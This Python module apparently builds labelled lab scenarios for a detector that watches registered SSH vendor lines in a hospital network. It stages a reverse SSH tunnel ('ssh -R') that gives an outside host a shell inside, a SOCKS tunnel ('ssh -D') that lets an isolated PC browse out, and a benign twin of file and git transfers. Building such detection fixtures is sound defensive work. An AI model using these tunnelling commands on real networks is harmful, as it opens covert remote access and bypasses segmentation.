"""What a registered SSH line carries: files and versions as agreed, or somebody's way back in."""

from __future__ import annotations

import time

from detector.hospital import RegisteredLine
from sample_pcaps.hospital import HOSTS
from sample_pcaps.lab.hosts import Machine
from sample_pcaps.lab.stories.tunnels import SSH, key_for, sshd
from sample_pcaps.lab.story import SPAN, Stage, Story, Truth

_INSIDE = HOSTS["NUTRI-PC1"]
_SERVER = "198.51.100.61"
_SITE = "192.0.2.33"
_PORT = "22"
_LINE = RegisteredLine(
    id="L-090", vendor="架空栄養管理", line_type="リモートアクセスVPN", device_ip=_INSIDE.ip,
    outside=(_SERVER,), protocols=("ssh",), landing=(_INSIDE.ip,), initiator="hospital",
)  # fmt: skip
#: A person at a shell, key by key, with pauses to read; about five minutes.
_KEYS = (
    "sleep 2; for round in 1 2 3 4 5 6 7; do for word in 'ls -la /etc' 'ps ax' 'cat /etc/services' "
    "'df -h' 'ip address'; do echo \"$word\" | grep -o . | while read -r key; do "
    "printf '%s' \"${key:- }\"; sleep 0.12; done; printf '\\r'; sleep 4; done; sleep 8; done; "
    "printf 'exit\\r'"
)


def _ready(stage: Stage) -> tuple[Machine, Machine]:
    """The inside machine, and the server outside that lets its key in."""
    inside, outside = stage[_INSIDE.name], stage.network.outside_address(_SERVER, _SITE)
    key_for(inside, outside)
    key_for(outside, inside)
    sshd(outside, _SERVER, int(_PORT))
    return inside, outside


def _type(machine: Machine, *where: str) -> None:
    """Work at a shell on the far end, as a person does."""
    command = " ".join([*SSH, "-tt", *where])
    machine.run("sh", "-c", f"({_KEYS}) | {command}", check=False, timeout_s=330)


def back_in(stage: Stage) -> None:
    inside, outside = _ready(stage)
    sshd(inside, "127.0.0.1", 2200)
    truth = Truth("over a registered SSH line (ssh -R) somebody outside works at a shell inside",
                  ("T1572", "T1090"), _INSIDE.ip, (_SERVER,), (SPAN,))  # fmt: skip
    with stage.happens(truth):
        inside.start(*SSH, "-N", "-p", _PORT, "-R", "2222:127.0.0.1:2200", f"root@{_SERVER}")
        outside.programs[-1].wait_until(lambda: outside.listens(2222))
        _type(outside, "-p", "2222", "root@127.0.0.1")


def dynamic(stage: Stage) -> None:
    inside, outside = _ready(stage)
    outside.serve(80, "python3", "-m", "http.server", "80", "--bind", _SITE)
    truth = Truth("over a registered SSH line (ssh -D) a PC of a closed VLAN browses outside",
                  ("T1572", "T1090"), _INSIDE.ip, (_SERVER,), (SPAN,))  # fmt: skip
    with stage.happens(truth):
        inside.start(*SSH, "-N", "-p", _PORT, "-D", "1080", f"root@{_SERVER}")
        inside.programs[-1].wait_until(lambda: inside.listens(1080))
        for _ in range(40):
            inside.run("curl", "-s", "-m", "5", "--socks5-hostname", "127.0.0.1:1080",
                       f"http://{_SITE}/")  # fmt: skip
            time.sleep(5)


def _copies(inside: Machine, server: str) -> None:
    """Large and small files both ways by sftp and scp, a repository by git."""
    files = inside.folder / "files"
    inside.run("sh", "-c", "mkdir -p many; head -c 6000000 /dev/urandom > large; "
               "for n in $(seq 300); do head -c $((n * 11)) large > many/$n; done")  # fmt: skip
    inside.write("batch", f"lcd {files}\nmkdir /tmp/lab-sftp\ncd /tmp/lab-sftp\nput large\n"
                 "put -r many\nget large back\nget -r many again\n")  # fmt: skip
    options = ("-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-i", "own")
    inside.run("sftp", "-q", *options, "-P", _PORT, "-b", "batch", f"root@{server}", timeout_s=90)
    inside.run("scp", "-q", "-r", *options, "-P", _PORT, "many", f"root@{server}:/tmp/lab-scp")
    author = ("-c", "user.name=lab", "-c", "user.email=lab@mimawari-hp.example")
    inside.run("git", "init", "-q", "-b", "main", "many")
    inside.run("git", "-C", "many", "add", ".")
    inside.run("git", "-C", "many", *author, "commit", "-q", "-m", "one")
    shell = {"GIT_SSH_COMMAND": " ".join(SSH).replace("-i own", f"-i {files}/own")}
    far = f"ssh://root@{server}:{_PORT}/tmp/lab-git"
    inside.run("git", "-C", "many", "push", "-q", far, "main", environment=shell)
    inside.run("git", "clone", "-q", far, "cloned", environment=shell)


def proper(stage: Stage) -> None:
    """The twin: what SSH is registered for, and somebody inside who works at the far shell."""
    inside, outside = _ready(stage)
    outside.run("sh", "-c", "rm -rf /tmp/lab-sftp /tmp/lab-scp /tmp/lab-git; "
                "git init -q --bare -b main /tmp/lab-git")  # fmt: skip
    where = ("-p", _PORT, f"root@{_SERVER}")
    try:
        for _ in range(2):
            inside.run(*SSH, *where, "for n in $(seq 20); do uptime; sleep 2; done", timeout_s=60)
            outside.run("rm", "-rf", "/tmp/lab-sftp", "/tmp/lab-scp")
        _copies(inside, _SERVER)
        # Many commands one by one, as configuration tools send them.
        for _ in range(60):
            inside.run(*SSH, *where, "cat > /dev/null; df; ip address", given="x" * 3000)
        _type(inside, *where)
    finally:
        outside.run("rm", "-rf", "/tmp/lab-sftp", "/tmp/lab-scp", "/tmp/lab-git")


_NEEDS = ("sshd:openssh-server", "ssh:openssh-client")
STORIES = (
    Story("ssh-back-in", "A way back in over a registered SSH line", back_in, _NEEDS,
          (_INSIDE.name,), is_short=False, limit_s=400, lines=(_LINE,)),
    Story("ssh-dynamic", "SOCKS inside a registered SSH line", dynamic,
          (*_NEEDS, "curl:curl"), (_INSIDE.name,), is_short=False, limit_s=400, lines=(_LINE,)),
    Story("benign-ssh", "Files, versions and a shell over a registered SSH line", proper,
          (*_NEEDS, "sftp:openssh-client", "git:git"), (_INSIDE.name,), is_short=False,
          is_benign=True, limit_s=600, lines=(_LINE,)),
)  # fmt: skip
